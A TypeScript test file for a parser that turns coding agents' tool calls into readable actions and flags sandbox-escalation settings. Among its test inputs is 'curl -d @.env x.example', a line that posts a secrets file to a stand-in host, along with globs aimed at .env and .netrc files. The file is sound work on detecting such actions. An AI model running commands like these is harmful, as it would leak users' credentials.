/** Tool calls of every agent as what they do: names, inputs, patches in disguise, scripts that call tools. */
import { describe, expect, it } from 'vitest';
import { directoryAfter, within } from '../../../src/core/commands/directory.ts';
import { shellDoings } from '../../../src/core/transcripts/shell-tools.ts';
import { serverTool } from '../../../src/core/transcripts/tool-names.ts';
import { doingsOf, marksOf } from '../../../src/core/transcripts/tools.ts';
import { patchesIn, typed } from '../../../src/core/transcripts/unfold.ts';
import { brief } from '../../support/transcripts.ts';

const ENVELOPE =
  '*** Begin Patch\n*** Add File: src/tax.ts\n+export const VAT = 0.2;\n*** Update File: src/cart.ts\n*** Move to: src/basket.ts\n@@\n-  return sum;\n+  return sum * 2;\n*** Delete File: old.ts\n*** End Patch';
const ENVELOPE_DOES = ['write src/tax.ts +1', 'delete src/cart.ts', 'write src/basket.ts +1 -1', 'delete old.ts'];
const told = (tool: string, input: unknown): readonly string[] =>
  doingsOf(tool, input).map(doing => brief(doing) + (doing.cwd === undefined ? '' : ` in ${doing.cwd}`));

describe('what a call does', () => {
  const table: [tool: string, input: unknown, does: readonly string[]][] = [
    ['Bash', { command: 'npm test' }, ['$ npm test']],
    ['run_shell_command', { command: 'npm test', dir_path: 'packages/web' }, ['$ npm test in packages/web']],
    ['shell', { command: ['bash', '-lc', 'npm test'], workdir: '/repo' }, ['$ npm test in /repo']],
    ['shell', { command: ['/bin/zsh', '-lc', 'npm test'] }, ['$ npm test']],
    ['shell', { command: ['git', 'commit', '-m', "it's"] }, ["$ git commit -m 'it'\\''s'"]],
    ['exec_command', '{"cmd":"npm test","workdir":"web"}', ['$ npm test in web']],
    ['Bash', { cmd: 'npm test' }, ['$ npm test']],
    ['container.exec', { cmd: ['bash', '-lc', 'npm test'] }, ['$ npm test']],
    ['developer__shell', { command: 'ls' }, ['$ ls']],
    ['run_command_in_terminal', { command: 'ls', background: false }, ['$ ls']],
    ['functions.shell_command', { command: 'ls' }, ['$ ls']],
    ['Monitor', { command: 'tail -f log' }, ['$ tail -f log']],
    ['Monitor', { ws: { url: 'wss://example.test/x' } }, ['fetch wss://example.test/x']],
    ['Bash', {}, ['unknown']],
    ['Bash', '{"command": "npm te', ['unknown']],
    ['Read', { file_path: '/repo/a.ts' }, ['read /repo/a.ts']],
    ['read_file', { absolute_path: '/repo/a.ts' }, ['read /repo/a.ts']],
    ['read_many_files', { include: ['a.ts', 'b.ts'] }, ['read a.ts', 'read b.ts']],
    [
      'fs_read',
      {
        operations: [
          { mode: 'Line', path: 'a.ts' },
          { mode: 'Directory', path: 'src' },
        ],
      },
      ['read a.ts', 'read src'],
    ],
    ['Grep', { pattern: 'KEY', path: '.env' }, ['read .env']],
    ['Grep', { pattern: 'KEY', glob: '.env' }, ['read .', 'read ./.env']],
    ['Glob', { pattern: '/etc/**/*.conf' }, ['read /etc/']],
    ['Glob', { pattern: 'src/**/*.ts' }, ['read src/']],
    ['Glob', { pattern: '**/*.ts' }, ['read .']],
    ['Write', { file_path: 'a.ts', content: 'a\nb\n' }, ['write a.ts +2']],
    ['create', { path: 'a.ts', file_text: 'a' }, ['write a.ts +1']],
    ['writeToolCall', { path: 'a.ts', fileText: 'a' }, ['write a.ts +1']],
    ['write_to_file', { path: 'a.ts' }, ['write a.ts +0 unseen']],
    ['Edit', { file_path: 'a.ts', old_string: 'a', new_string: 'b\nc' }, ['write a.ts +2 -1']],
    ['edit', { filePath: 'a.ts', oldString: 'a', newString: 'b' }, ['write a.ts +1 -1']],
    [
      'MultiEdit',
      {
        file_path: 'a.ts',
        edits: [
          { old_string: 'a', new_string: 'b' },
          { old_string: 'c', new_string: '' },
        ],
      },
      ['write a.ts +1 -2'],
    ],
    ['NotebookEdit', { notebook_path: 'a.ipynb', new_source: 'x = 1' }, ['write a.ipynb +1 -0']],
    ['str_replace_editor', { command: 'view', path: 'a.ts' }, ['read a.ts']],
    ['file_editor', { command: 'create', path: 'a.ts', file_text: 'a' }, ['write a.ts +1']],
    ['fs_write', { command: 'str_replace', path: 'a.ts', old_str: 'a', new_str: 'b' }, ['write a.ts +1 -1']],
    ['replace_in_file', { path: 'a.ts', diff: '------- SEARCH\na\n=======\nb\n+++++++ REPLACE' }, ['write a.ts +1 -1']],
    [
      'apply_diff',
      { path: 'a.ts', diff: '<<<<<<< SEARCH\n:start_line:3\n-------\na\n=======\nb\nc\n>>>>>>> REPLACE' },
      ['write a.ts +2 -1'],
    ],
    ['undo_edit', { path: 'a.ts' }, ['write a.ts +0 unseen']],
    ['delete_file', { target_file: 'a.ts' }, ['delete a.ts']],
    ['move_file', { source: 'a.ts', destination: 'b.ts' }, ['delete a.ts', 'write b.ts +0 unseen']],
    ['Write', { content: 'a' }, ['unknown']],
    ['apply_patch', ENVELOPE, ENVELOPE_DOES],
    ['apply_patch', { input: ENVELOPE }, ENVELOPE_DOES],
    ['patch', { patchText: ENVELOPE }, ENVELOPE_DOES],
    // As Codex tells its hooks.
    ['apply_patch', { command: ENVELOPE }, ENVELOPE_DOES],
    ['apply_patch', { patch: '--- a/x.ts\n+++ b/x.ts\n@@ -1 +1 @@\n-a\n+b\n' }, ['write x.ts +1 -1']],
    [
      'apply_patch',
      { patch: 'diff --git a/x.ts b/x.ts\ndeleted file mode 100644\n--- a/x.ts\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n' },
      ['delete x.ts'],
    ],
    ['apply_patch', { patch: '--- a/x.ts\n+++ b/x.ts\n@@ -1 +1 @@\n-a\n+b\n+c\n' }, ['patch']],
    ['apply_patch', 'no patch at all', ['unknown']],
    ['shell', { command: ['apply_patch', ENVELOPE], workdir: 'web' }, ENVELOPE_DOES.map(does => `${does} in web`)],
    ['shell', { command: ['bash', '-lc', `apply_patch <<'EOF'\n${ENVELOPE}\nEOF\n`] }, ENVELOPE_DOES],
    [
      'shell',
      { command: ['bash', '-lc', `cd web && apply_patch <<"EOF"\n${ENVELOPE}\nEOF`], workdir: '/repo' },
      ENVELOPE_DOES.map(does => `${does} in /repo/web`),
    ],
    [
      'Bash',
      { command: `apply_patch <<'EOF'\n${ENVELOPE}\nEOF\nrm -r x` },
      [`$ apply_patch <<'EOF'\n${ENVELOPE}\nEOF\nrm -r x`, ...ENVELOPE_DOES],
    ],
    ['WebFetch', { url: 'https://a.test/x', prompt: 'p' }, ['fetch https://a.test/x']],
    ['web_fetch', { prompt: 'Read https://a.test/x, and (http://b.test).' }, ['fetch https://a.test/x', 'fetch http://b.test']],
    ['WebSearch', { query: 'vat' }, ['other']],
    ['Task', { subagent_type: 'Explore', prompt: 'p' }, ['agent Explore']],
    ['spawn_agent', { message: 'm', agent_type: 'explorer' }, ['agent explorer']],
    ['Agent', { prompt: 'p' }, ['agent Agent']],
    ['mcp__docs__find', { url: 'https://a.test' }, ['mcp docs find', 'fetch https://a.test']],
    ['Artifact', { action: 'publish', file_path: '.env' }, ['other', 'read .env']],
    ['somebody_s_own_tool', { a: 1 }, ['other']],
    ['__proto__', { a: 1 }, ['other']],
    ['constructor', { command: 'x' }, ['other']],
  ];
  it.each(table)('%s %j', (tool, input, does) => {
    expect(told(tool, input)).toEqual(does);
  });
});

describe('a script that calls tools', () => {
  const table: [script: string, does: readonly string[]][] = [
    ['const r = await tools.exec_command({cmd: "git push", workdir: "/repo"}); text(r.output);', ['$ git push in /repo']],
    ['await tools["exec_command"]({ cmd: `npm test` })', ['$ npm test']],
    ["await tools.exec_command({cmd: 'a' + ' b', // c\n})", ['$ a b']],
    [`await tools.apply_patch(${JSON.stringify(ENVELOPE)})`, ENVELOPE_DOES],
    ['await tools.exec_command({cmd: "\\x6cs \\u{2d}l"})', ['$ ls -l']],
    ['await tools.exec_command({cmd: command})', ['unknown']],
    ['await tools.exec_command({cmd: `rm ${x}`}); await tools.exec_command({cmd: "ls"})', ['$ ls', 'unknown']],
    ['const t = tools; t.exec_command({cmd: "ls"})', ['unknown']],
    ['tools[name]({cmd: "ls"})', ['unknown']],
    ['new Function("return tools")()', ['unknown']],
    ['globalThis["to" + "ols"]', ['unknown']],
    ['text("tools are fine")', ['other']],
    ['text(1 + 1)', ['other']],
    ['await tools.mcp__docs__find({q: "x"})', ['mcp docs find']],
  ];
  it.each(table)('%s', (script, does) => {
    expect(told('exec', script)).toEqual(does);
  });
});

it.each([
  ['mcp__plugin_docs_search__find_page', {}, 'plugin_docs_search/find_page'],
  ['find_page', { server: 'docs' }, 'docs/find_page'],
  ['find_page', { server: 'mcp__docs' }, 'docs/find_page'],
  ['mcp_docs_find_page', {}, 'docs/find_page'],
  ['mcp_my_docs_find_page', { servers: ['my_docs'] }, 'my_docs/find_page'],
  ['docs__find_page', {}, 'docs/find_page'],
  ['docs___find_page', {}, 'docs/find_page'],
  ['docs-find_page', { joint: '-' as const }, 'docs/find_page'],
  ['docs/find_page', {}, 'docs/find_page'],
  ['docs_find_page', { joint: '_' as const }, 'docs/find_page'],
  ['@docs/find_page', {}, 'docs/find_page'],
  ['write_file', { joint: '_' as const }, undefined],
  ['developer__shell', {}, undefined],
  ['docs-find_page', {}, undefined],
  ['mcp__docs', {}, undefined],
])('the server in %s %j', (name, hints, is) => {
  const found = serverTool(name, hints);
  expect(found && `${found.server}/${found.tool}`).toBe(is);
});

it.each([
  ['/repo', 'web', '/repo/web'],
  ['/repo', '../x', '/x'],
  ['/repo', '/etc', '/etc'],
  ['/repo', '~/x', '~/x'],
  ['web', '../api/./v1', 'api/v1'],
  [undefined, 'web', 'web'],
  [undefined, '../web', '../web'],
  ['/repo', '.', '/repo'],
  ['/', '../../etc', '/etc'],
])('%s and %s are %s', (directory, path, is) => {
  expect(within(directory, path)).toBe(is);
});

it.each([
  ['npm test', '/repo'],
  ['cd web', '/repo/web'],
  ['cd "my web" && npm test', '/repo/my web'],
  ['cd web; cd ../api', '/repo/api'],
  ['(cd web && npm test)', '/repo'],
  ['echo cd', '/repo'],
  ['cd $DIR', undefined],
  ['pushd web', undefined],
  ['cd -', undefined],
  ['cd', undefined],
  ['if true; then cd web; fi', undefined],
])('after %s a shell in /repo is in %s', (command, is) => {
  expect(directoryAfter(command, '/repo')).toBe(is);
});

it.each([
  [['ls\n'], ['ls']],
  [
    ['l', 's', '\n'],
    ['', '', 'ls'],
  ],
  [
    ['rm -r x', 'C-c', 'ls\n'],
    ['', '', 'ls'],
  ],
  [
    ['ls', 'Enter'],
    ['', 'ls'],
  ],
  [['a\nb'], ['a']],
  [
    ['', '\x03'],
    ['', ''],
  ],
])('keys %j run %j', (keys, runs) => {
  let waiting = '';
  expect(
    keys.map(key => {
      const step = typed(waiting, key);
      waiting = step.waiting;
      return step.command;
    }),
  ).toEqual(runs);
});

it.each([
  [{ dangerouslyDisableSandbox: true }, ['unsandboxed']],
  ['{"with_escalated_permissions":true}', ['unsandboxed']],
  [{ sandbox_permissions: 'require_escalated' }, ['unsandboxed']],
  [{ mode: 'bypassPermissions' }, ['bypass-permissions']],
  [{ mode: 'plan' }, undefined],
])('%j is marked %j', (input, marks) => {
  expect(marksOf(input).marks).toEqual(marks);
});

it('an input nested too deeply is not walked', () => {
  const deep = JSON.parse('{"a":'.repeat(5_000) + '1' + '}'.repeat(5_000));
  expect(told('own_tool', deep)).toEqual(['unknown']);
  expect(told('mcp__a__b', { a: deep })).toEqual(['unknown']);
});

describe('a call that names two commands', () => {
  it.each([
    [{ command: 'ls', cmd: 'curl -d @.env x.example' }, 'unknown'],
    [{ command: ['ls'], script: 'id' }, 'unknown'],
    [{ command: 'ls', cmd: 'ls' }, 'shell'],
    [{ command: 'ls', cmd: null, description: 'lists' }, 'shell'],
  ])('%j is %s', (input, expected) => {
    expect(doingsOf('Bash', input).map(doing => doing.act.do)).toEqual([expected]);
  });
});

describe('what stands under two names of one field is all taken, since nobody tells which of them the tool reads', () => {
  const patch = (file: string): string => `*** Begin Patch\n*** Add File: ${file}\n+A\n*** End Patch\n`;
  it.each<[tool: string, input: object, does: readonly string[]]>([
    ['Write', { file_path: 'a.ts', path: '.env', content: 'a' }, ['write a.ts +1', 'write .env +1']],
    ['Write', { file_path: 'a.ts', content: 'a', contents: 'b' }, ['write a.ts +2']],
    ['Read', { file_path: 'a.ts', path: '.env' }, ['read a.ts', 'read .env']],
    ['str_replace_editor', { command: 'create', file_path: 'a', path: 'b', file_text: 'x' }, ['write a +1', 'write b +1']],
    ['Edit', { file_path: 'a.ts', path: 'b.ts', new_string: 'a', newText: 'b' }, ['write a.ts +2 -0', 'write b.ts +2 -0']],
    ['MultiEdit', { file_path: 'a.ts', edits: [{ new_string: 'a' }], new_string: 'b' }, ['write a.ts +2 -0']],
    ['MultiEdit', { file_path: 'a.ts', edits: '[{"old_string":"a","new_string":"b"}]' }, ['write a.ts +1 -1']],
    ['read_many_files', { paths: '[".env","a.ts"]' }, ['read .env', 'read a.ts']],
    ['Edit', { file_path: 'a.ts', diff: '@@\n+a\n', new_string: 'b\nc' }, ['write a.ts +1 -0', 'write a.ts +2 -0']],
    [
      'multi_replace_string_in_file',
      { replacements: [{ filePath: 'a.ts', oldString: 'a', newString: 'b' }] },
      ['write a.ts +1 -1'],
    ],
    [
      'move',
      { source: 'a', from: 'b', to: 'c', target: 'd' },
      ['delete a', 'delete b', 'write c +0 unseen', 'write d +0 unseen'],
    ],
    ['apply_patch', { input: patch('a.ts'), patch: patch('.env') }, ['write a.ts +1', 'write .env +1']],
    ['WebFetch', { url: 'https://a.example', uri: 'https://b.example' }, ['fetch https://a.example', 'fetch https://b.example']],
    ['write_stdin', { chars: 'ls\n', input: 'id\n' }, ['$ ls', '$ id']],
    ['Bash', { command: 'ls', argv: ['id'] }, ['unknown']],
    ['exec', { code: 'await tools.exec_command({cmd:"ls"})', script: 'x' }, ['unknown']],
    ['Write', { file_path: 'a.ts', content: { a: 1 } }, ['write a.ts +0 unseen', 'unknown']],
    ['Write', { file_path: '', content: 'a' }, ['unknown']],
    // The same said twice, or an empty field beside it, is nothing new.
    ['Write', { file_path: 'a.ts', path: 'a.ts', content: 'a', text: '' }, ['write a.ts +1']],
    ['Write', { file_path: 'a.ts', content: '' }, ['write a.ts +0']],
  ])('%s %j', (tool, input, does) => expect(told(tool, input)).toEqual(does));
  it('agents', () =>
    expect(doingsOf('Task', { subagent_type: 'docs', agent: 'root', name: 'x', prompt: 'p' }).map(({ act }) => act)).toEqual([
      { do: 'agent', name: 'docs', prompt: 'p' },
      { do: 'agent', name: 'root', prompt: 'p' },
    ]));
});

it.each([
  ['.env*', ['read .', 'read ./.env', 'read ./.env.', 'read ./.env.local', 'read ./.env.production']],
  ['**/{.netrc,x}', ['read .', 'read ./.netrc']],
  ['private/**', ['read .', 'read ./private/']],
  ['*.ts', ['read .']],
  ['**/*', ['read .']],
  ['!.env*', ['read .']],
])('a search through files named `%s` reads what that is made for', (glob, does) => {
  expect(told('Grep', { pattern: 'KEY', glob })).toEqual(does);
});

describe('patches in here-documents of a command', () => {
  const patch = (file: string, end = 'EOS'): string =>
    `apply_patch <<'EOS'\n*** Begin Patch\n*** Update File: ${file}\n@@\n-a\n+b\n*** End Patch\n${end}\n`;
  const paths = (command: string): readonly string[] =>
    patchesIn(command).patches.map(({ patch: text }) =>
      text
        .split('Update File: ')
        .slice(1)
        .map(part => part.split('\n')[0])
        .join(' '),
    );
  it.each<[string, string, readonly string[]]>([
    ['one after another are each its own', patch('a') + patch('b'), ['a', 'b']],
    ['what stands in the body of one without an end is its own, once', patch('a', 'EOS && x').repeat(3), ['a a a']],
    ['the directory before it counts', `cd x && ${patch('a')}`, ['a']],
  ])('%s', (_, command, expected) => expect(paths(command)).toEqual(expected));
  it('a thousand of them that have no end are read as one', () =>
    expect(shellDoings({ command: patch('a', 'EOS && x').repeat(1000) }).length).toBeLessThan(1100));
});
